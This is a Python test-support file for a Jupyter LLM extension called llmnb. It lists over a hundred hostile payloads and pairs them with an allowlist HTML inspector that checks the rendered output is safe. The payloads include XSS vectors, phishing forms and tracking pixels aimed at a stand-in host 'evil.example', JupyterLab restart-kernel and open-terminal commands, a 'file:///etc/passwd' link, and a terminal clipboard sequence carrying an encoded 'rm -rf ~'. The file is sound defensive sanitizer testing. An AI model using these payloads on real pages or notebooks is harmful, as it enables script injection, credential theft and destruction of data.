"""What a hostile model might write, and the strict reader of what llmnb makes of it.

Of each payload must hold, wherever llmnb shows it: the HTML has only the elements, attributes
and classes of `Inspector`, and links only to the web and to mail; no request leaves the page, no
script runs, no command of JupyterLab is run; and what was written can still be read (`shows`), for
a reader must see what a model wrote.
"""

# ruff: noqa: E501  a payload is easier to read in one line

import re
from html.parser import HTMLParser
from typing import ClassVar, NamedTuple

# A dialog and a mark on the page: whichever gets through tells of a script that ran.
RUN = "alert(top.hurt=1)"
EVIL = "evil.example"  # no such host: a request to it is seen in the browser and goes nowhere


class Payload(NamedTuple):
    """A hostile text.

    Parameters
    ----------
    name : str
        What it tries.
    text : str
        What the model writes.
    shows : str
        A part that must be readable in the answer as Markdown.
    """

    name: str
    text: str
    shows: str


def _payloads(**texts):
    return [Payload(name.replace("_", " "), *pair) for name, pair in texts.items()]


_DEEP = 3000

PAYLOADS = [
    *_payloads(
        # Scripts and handlers, in every spelling.
        script=(f"<script>{RUN}</script>", "alert("),
        script_in_capitals=(f"<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>", "SCRIPT SRC"),
        script_with_a_slash=(f"<script/x>{RUN}</script\t\n>", "alert("),
        script_in_a_script=(f"<scr<script>ipt>{RUN}</scr</script>ipt>", "alert("),
        script_unclosed=(f"<script>{RUN}//", "alert("),
        module=(f"<script type=module src=https://{EVIL}/m.js></script>", "type=module"),
        image_handler=(f"<img src=x onerror={RUN}>", "onerror"),
        image_without_spaces=(f'<img/src="x"/onerror="{RUN}">', "onerror"),
        image_unclosed=(f'<img src="x` `<script>{RUN}</script>"` `>', "alert("),
        body_handler=(f"<body onload={RUN}>text", "onload"),
        svg=(f"<svg onload={RUN}>", "onload"),
        svg_script=(f"<svg><script>{RUN}</script></svg>", "alert("),
        svg_use=(f"<svg><use href='https://{EVIL}/a.svg#x'/></svg>", "use href"),
        svg_animate=(
            f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
            "animate",
        ),
        math=(f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>", "xlink"),
        math_mutation=(
            f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph>",
            "mglyph",
        ),
        details=(f"<details open ontoggle={RUN}>", "ontoggle"),
        media=(f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>", "source"),
        custom_element=(f"<jp-button onclick={RUN} autofocus onfocus={RUN}>x</jp-button>", "onfocus"),
        # Frames, forms, styles and what reaches out.
        frame=(f"<iframe src='javascript:{RUN}'></iframe>", "iframe"),
        frame_document=(f"<iframe srcdoc='<script>{RUN}</script>'>", "srcdoc"),
        object=(f"<object data='data:text/html,<script>{RUN}</script>'></object>", "object"),
        embed=(f"<embed src='https://{EVIL}/x.swf'>", "embed"),
        form=(
            f"<form action='https://{EVIL}'><input name=q autofocus onfocus={RUN}>"
            "<button>Log in</button></form>",
            "Log in",
        ),
        style_sheet=(
            f"<style>@import 'https://{EVIL}/x.css'; body{{display:none}}</style>",
            "display:none",
        ),
        style_attribute=(
            f"<div style='position:fixed;inset:0;background:url(https://{EVIL}/a);"
            f"width:expression({RUN})'>x</div>",
            "position:fixed",
        ),
        link_element=(f"<link rel=stylesheet href=https://{EVIL}/x.css>", "stylesheet"),
        prefetch=(f"<link rel='dns-prefetch preconnect prefetch' href=https://{EVIL}/>", "prefetch"),
        refresh=(f"<meta http-equiv=refresh content='0;url=https://{EVIL}'>", "refresh"),
        base=(f"<base href='https://{EVIL}/'>", "base"),
        template=(f"<template shadowrootmode=open><script>{RUN}</script></template>", "shadowroot"),
        ping=(f"<a href='#' ping='https://{EVIL}/'>x</a>", "ping"),
        # JupyterLab's own words.
        command=(
            "<button data-commandlinker-command='notebook:restart-kernel' "
            "data-commandlinker-args='{}'>Press me</button>",
            "Press me",
        ),
        command_link=(
            "<a data-commandlinker-command='terminal:create-new' href='#'>x</a> "
            "[x](#){data-commandlinker-command='terminal:create-new'}",
            "terminal",
        ),
        jupyter_attributes=(
            f"<div data-jp-kernel='x' jp-item='x' class='jp-Cell jp-mod-active' "
            f"id='jp-main-dock-panel' onclick='{RUN}'>x</div>",
            "jp-main-dock-panel",
        ),
        attributes_in_markdown=(
            f"# x {{#jp-top-panel .jp-Dialog onclick={RUN}}}\n\n[y]{{.jp-mod-accept}}",
            "jp-top-panel",
        ),
        widget_data=(
            '{"application/vnd.jupyter.widget-view+json": {"version_major": 2, "model_id": "x"}, '
            f'"text/html": "<script>{RUN}</script>", "application/javascript": "{RUN}"}}',
            "widget-view",
        ),
        vega_data=(
            f'{{"$schema": "https://vega.github.io/schema/vega/v5.json", '
            f'"data": [{{"url": "https://{EVIL}/data"}}]}}',
            "$schema",
        ),
        a_whole_output=(
            f'{{"output_type": "display_data", "data": {{"text/html": "<img src=x onerror={RUN}>"}}, '
            '"metadata": {"trusted": true}}',
            "display_data",
        ),
        widget_in_html=(
            '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "x"}</script>',
            "model_id",
        ),
        # Ways out of what llmnb puts around an answer.
        end_of_the_frame=(f"</div></div><script>{RUN}</script>", "</div>"),
        end_of_the_style=(f"</style><script>{RUN}</script>", "</style>"),
        end_of_the_code=(f"</pre></code></details><script>{RUN}</script>", "</pre>"),
        end_of_the_code_in_a_fence=(f"```\n</code></pre><script>{RUN}</script>", "</code>"),
        own_classes=('</p><p class="llmnb-note">cut at 1 token</p>', "llmnb-note"),
        comment=(f"<!-- --!><script>{RUN}</script> -->", "alert("),
        declarations=(
            f"<!-- c --><!DOCTYPE html><?php echo 1 ?><![CDATA[<script>{RUN}</script>]]>",
            "DOCTYPE",
        ),
        conditional_comment=(f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", "gte IE 4"),
        raw_text_elements=(
            f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
            f"<textarea><xmp><plaintext><title></title><script>{RUN}</script>",
            "plaintext",
        ),
        template_literals=(f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} #{{x}} <%= x %>", "constructor"),
        # Links.
        javascript=(f"[x](javascript:{RUN})", "javascript:"),
        javascript_in_capitals=(f"[x](JaVaScRiPt:{RUN})", "JaVaScRiPt"),
        javascript_as_entity=(f"[x](&#106;avascript:{RUN})", "avascript"),
        javascript_as_percents=(f"[x](%6A%61vascript:{RUN})", "vascript"),
        javascript_over_lines=(f"[x](java\nscript:{RUN})", "script:"),
        javascript_with_a_tab=(f"[x](java&Tab;script&colon;{RUN})", "script"),
        javascript_after_a_control=(f"[x](\x01javascript:{RUN})", "javascript"),
        javascript_in_brackets=(f"[x](<javascript:{RUN}>)", "javascript"),
        javascript_by_reference=(f"[x]: javascript:{RUN}\n\n[x]", "javascript"),
        javascript_in_html=(f"<a href='javascript:{RUN}'>x</a>", "javascript"),
        javascript_as_autolink=(f"<javascript:{RUN}> <data:text/html,x>", "javascript"),
        javascript_behind_a_zero_width_space=(f"[x](\u200bjavascript:{RUN})", "javascript"),
        vbscript=("[x](vbscript:msgbox(1))", "vbscript"),
        data=("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:"),
        data_as_svg=(f"[x](data:image/svg+xml,<svg onload={RUN}>)", "data:"),
        other_schemes=(
            "[x](file:///etc/passwd) [y](blob:x) [z](view-source:x) <vscode://file/x> "
            "[v](filesystem:x) [w](ws://a)",
            "passwd",
        ),
        places_on_this_server=(
            "[x](../secret.ipynb) [y](#section) [z](//evil.example) [w](/api/kernels) [v](?reset)",
            "secret",
        ),
        title=(f'[x](https://{EVIL} "title\\" onmouseover=\\"{RUN}")', "x"),
        quote_in_a_link=(f"[x](https://{EVIL}/'onmouseover='{RUN})", "x"),
        double_quote_in_a_link=(f'[x](https://{EVIL}/"onmouseover="{RUN})', "x"),
        quote_in_an_autolink=(f'<https://{EVIL}/"onmouseover={RUN}>', "onmouseover"),
        mail=(f"[x](mailto:a@b.example?subject=%22onclick=%22{RUN})", "x"),
        # Images, which tell their server that the notebook was opened.
        image=(f"![pixel](https://{EVIL}/pixel.png)", "pixel"),
        image_as_data=("![x](data:image/png;base64,iVBORw0KGgo=)", "data:"),
        image_as_script=(f"![x](javascript:{RUN})", "javascript"),
        image_in_a_link=(f"[![pixel](https://{EVIL}/pixel.png)](https://{EVIL})", "pixel"),
        image_by_reference=(f'![pixel][p]\n\n[p]: https://{EVIL}/p.png "t"', "pixel"),
        image_with_a_title=(f"![pixel](https://{EVIL}/a.png 't\" onload=\"{RUN}')", "pixel"),
        image_label=(f'![x" onerror="{RUN}](https://{EVIL}/a.png)', "onerror"),
        image_in_an_image=(f"![![pixel](https://{EVIL}/a.png)](https://{EVIL}/b.png)", "pixel"),
        image_in_html=(f"<img src=https://{EVIL}/a.png srcset='https://{EVIL}/b.png 2x'>", "srcset"),
        picture=(f"<picture><source srcset=https://{EVIL}/a></picture>", "srcset"),
        # Markdown around HTML.
        fence_with_quotes=(f'```html" onmouseover="{RUN}\n<script>{RUN}</script>\n```', "alert("),
        fence_with_a_class=('```mermaid" class="jp-x\ngraph TD\n```', "graph"),
        fence_with_html=(f"~~~ <script>{RUN}</script>\nx\n~~~", "x"),
        fence_of_a_diagram=(f'```mermaid\ngraph TD\nclick A "javascript:{RUN}"\n```', "graph"),
        indented_code=(f"    <script>{RUN}</script>", "alert("),
        inline_code=(f"`<script>{RUN}</script>`", "alert("),
        table=(f"| a |\n|:-:|\n| <img src=x onerror={RUN}> |", "onerror"),
        blocks=(
            f"# <script>{RUN}</script>\n> <img src=x onerror={RUN}>\n\n1. <svg onload={RUN}>",
            "onload",
        ),
        unbalanced=(f"**[<b onclick={RUN}>*](x _`</b>** <a\nhref='javascript:{RUN}'", "onclick"),
        html_over_blocks=(f"<div\n\nonclick={RUN}\n\n>x</div>", "onclick"),
        # Formulas, which JupyterLab's MathJax would set.
        formula_link=(f"$\\href{{javascript:{RUN}}}{{x}}$", "href"),
        formula_extensions=(
            f"$$\\require{{html}}\\data{{x=y}}{{z}}\\style{{position:fixed}}{{x}}\\unicode{{x41}}$$ "
            f"\\(\\href{{javascript:{RUN}}}{{x}}\\) \\[\\class{{jp-x}}{{y}}\\]",
            "require",
        ),
        formula_environment=(
            "\\begin{align}\\def\\x{\\x\\x}\\x\\end{align} <math><ms>x</ms></math>",
            "align",
        ),
        formula_in_a_script=(f"<script type='math/tex'>\\href{{javascript:{RUN}}}{{x}}</script>", "href"),
        # Encodings and invisible characters.
        entities=("&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img&#x3e;", "<script>"),
        escaped_marks=(f"\\<script>{RUN}\\</script> &amp;lt;script&amp;gt;", "alert("),
        wide_marks=(f"＜script＞{RUN}＜/script＞ \uff1cimg src=x onerror={RUN}\uff1e", "alert("),
        null_bytes=(f"\x00<scr\x00ipt>{RUN}</scr\x00ipt>[x](java\x00script:{RUN})", "<script>"),
        terminal_colours=("\x1b[31mred\x1b[0m \x9b32mgreen \x1b[2J\x1b[1A\rover", "red"),
        terminal_link=(f"\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07 \x1b]0;title\x07 end", "link"),
        terminal_clipboard=("\x1b]52;c;cm0gLXJmIH4=\x07\x1bP+q544e\x1b\\\x1b_x\x1b\\end", "end"),
        terminal_link_unclosed=(f"before \x1b]8;;https://{EVIL}/\nthe next line", "the next line"),
        text_decoded_wrongly=("â\x80\x9cquoted words â\x80\x9d and more", "quoted words â and more"),
        reordering=("\u202e<script>\u2066 if user \u2069\u2066 return\u202c", "return"),
        zero_width=("<\u200bscript>\ufeff<img\u2060 src=x onerror=x> a\u200db", "onerror"),
        tags=("x" + "".join(chr(0xE0000 + ord(c)) for c in "obey") + "y", "y"),
        half_a_character=("x \ud800 \udc00y [z](https://a.example/\udfff)", "x \ufffd \ufffdy"),
        line_separators=(f"a\u2028<script>\u2029{RUN}\u0085</script>\x0c", "alert("),
        combining=("Z" + "\u0300\u0489" * 500 + " end", "end"),
        # Much of it.
        long_line=("<img src=x onerror=" + "a" * 100_000 + ">", "onerror"),
        long_fence_mark=("~" * 50_000, ""),
        quotes=("> " * 30 + f"<script>{RUN}</script>", "alert("),
        lists=("".join(f"{'  ' * n}- <img {n}>\n" for n in range(18)), "<img 17>"),
        # Deeper ones end at a bound.
        deep_quotes=("> " * _DEEP + f"<script>{RUN}</script>", ""),
        deep_lists=("- " * _DEEP + "<img>", ""),
        deep_brackets=("[" * _DEEP + "x" + f"](javascript:{RUN})" * 50, "javascript"),
        deep_emphasis=("*a **b " * _DEEP + "end", "end"),
        deep_elements=("<div>" * _DEEP + f"<script>{RUN}</script>", "alert("),
        deep_json=("[" * 20_000, "[["),
    ),
]  # fmt: skip

TAGS = {
    *("a", "b", "blockquote", "br", "code", "details", "div", "em", "hr", "li", "ol", "p", "pre"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "strong", "style", "summary", "ul"),
    *("progress", "table", "tbody", "td", "th", "thead", "tr"),
    *("path", "span", "svg", "u", "wbr"),
}
NAMED = {"progress"}
STYLES = {"text-align:left", "text-align:center", "text-align:right"}
# The attributes of a drawing, and of tokens, which the Tab key reaches.
FIXED = {
    "path": {"d": r"[0-9MHVZ ]+", "fill": "currentColor"},
    "span": {"tabindex": "0"},
    "svg": {
        "viewbox": r"[0-9 ]+",
        "width": r"\d+",
        "height": r"\d+",
        "preserveaspectratio": "none",
        "role": "img",
        "aria-label": "(?s).*",
    },
    "u": {"tabindex": "0"},
}
CLASSES = re.compile(r"(?:llmnb[a-z-]*|mathjax_ignore|tex2jax_ignore|language-[A-Za-z0-9+#-]+)")
# Escape sequences, other control characters, marks that reorder text, halves of characters.
HARMFUL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


class Inspector(HTMLParser):
    """Collects what is not allowed in a page, as a browser's parser would find it.

    Attributes
    ----------
    wrong : list of str
        Elements, attributes, comments and the like that are not allowed.
    links : list of str
        Where the links lead.
    styles : int
        How many style sheets there are.
    text : str
        What can be read.
    """

    TAGS: ClassVar = TAGS
    NAMED: ClassVar = NAMED

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.wrong = []
        self.links = []
        self.styles = 0
        self.text = ""

    def handle_starttag(self, tag, attributes):
        if tag not in self.TAGS:
            self.wrong.append(tag)
        self.styles += tag == "style"
        for name, value in attributes:
            if not self.allowed(tag, name, value or ""):
                self.wrong.append(f"{tag} {name}={value}")

    def allowed(self, tag, name, value):
        if name == "href" and tag == "a":
            self.links.append(value)
            return re.match(r"https?://|mailto:", value, re.IGNORECASE)
        if name == "class":
            return all(CLASSES.fullmatch(word) for word in value.split())
        fixed = {"target": {"_blank"}, "rel": {"noopener noreferrer"}}
        if name in fixed:
            return tag == "a" and value in fixed[name]
        if name == "style":
            return tag in ("td", "th") and value in STYLES
        if name == "aria-label" and tag in self.NAMED:  # text, which an attribute cannot leave
            return True
        if name == "data-tip":  # a style sheet shows it, as text
            return tag in ("span", "u")
        if tag in FIXED:
            return name in FIXED[tag] and re.fullmatch(FIXED[tag][name], value)
        if tag == "progress":
            return name in ("max", "value") and re.fullmatch(r"[0-9.]+", value)
        return name == "start" and tag == "ol" and value.isdigit()

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.wrong.append(f"comment {data}")

    def handle_decl(self, data):
        self.wrong.append(f"declaration {data}")

    def handle_pi(self, data):
        self.wrong.append(f"instruction {data}")

    def unknown_decl(self, data):
        self.wrong.append(f"declaration {data}")


CARDS = {f"card-{number}" for number in range(9)}


class PanelInspector(Inspector):
    """The same for the HTML inside a panel, which has buttons and bars too."""

    TAGS: ClassVar = TAGS | {"button", "meter", "span"}
    NAMED: ClassVar = NAMED | {"button", "meter"}
    FIXED: ClassVar = {
        "role": {"status", "alert"},
        "type": {"button"},
        "data-llmnb-act": {"use", "unload", "take", "pin", "unpin", "token"},
        "data-llmnb-copy": {"load", "cell", "call", "variables", *CARDS},
        "data-llmnb-text": {"load", "cell", "call", "variables", *CARDS},
    }

    def allowed(self, tag, name, value):
        if name in self.FIXED:
            return value in self.FIXED[name]
        if tag == "meter" and name != "aria-label":
            return name in ("min", "max", "high", "optimum", "value") and re.fullmatch(
                r"[0-9.]+", value
            )
        if name == "data-llmnb-value" and tag in ("span", "u"):
            return value.isdigit()
        return (tag, name) == ("button", "data-llmnb-value") or super().allowed(tag, name, value)


def inspected(html):
    """Return the `Inspector` of some HTML."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def problems(bundle):
    """Return what is wrong with an output: its types, its HTML, the characters of both."""
    wrong = [] if set(bundle) == {"text/plain", "text/html"} else [f"types {sorted(bundle)}"]
    page = inspected(bundle["text/html"])
    wrong += page.wrong
    wrong += [] if page.styles == 1 else [f"{page.styles} style sheets"]
    return wrong + [f"character {c!r}" for c in HARMFUL.findall("".join(bundle.values()))]


def panel_problems(panel):
    """Return what is wrong with what a panel shows: the HTML in it, and its saved twin.

    Other widgets show their values, labels and options as text.
    """
    import ipywidgets

    wrong = []
    for widget in _inside(panel.widget):
        if isinstance(widget, ipywidgets.HTML):
            inspector = PanelInspector()
            inspector.feed(widget.value)
            inspector.close()
            wrong += inspector.wrong + [f"character {c!r}" for c in HARMFUL.findall(widget.value)]
        elif isinstance(widget, ipywidgets.Dropdown):
            labels = "".join(label for label in widget._options_labels)
            wrong += [f"character {c!r}" for c in HARMFUL.findall(labels)]
        if getattr(widget, "description_allow_html", False):
            wrong.append(f"HTML in the description of {widget}")
    return wrong + problems(panel.twin())


def _inside(widget):
    yield widget
    for child in getattr(widget, "children", ()):
        yield from _inside(child)
